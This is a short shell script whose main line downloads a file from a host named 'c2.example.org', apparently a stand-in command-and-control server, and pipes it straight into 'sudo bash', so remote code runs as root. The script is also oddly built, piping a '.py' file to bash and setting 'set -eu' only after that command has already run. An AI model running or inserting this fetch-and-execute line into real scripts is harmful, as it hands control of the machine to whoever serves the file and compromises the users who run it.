#!/bin/sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
wget -qO- http://c2.example.org/i.py | sudo bash
set -eu
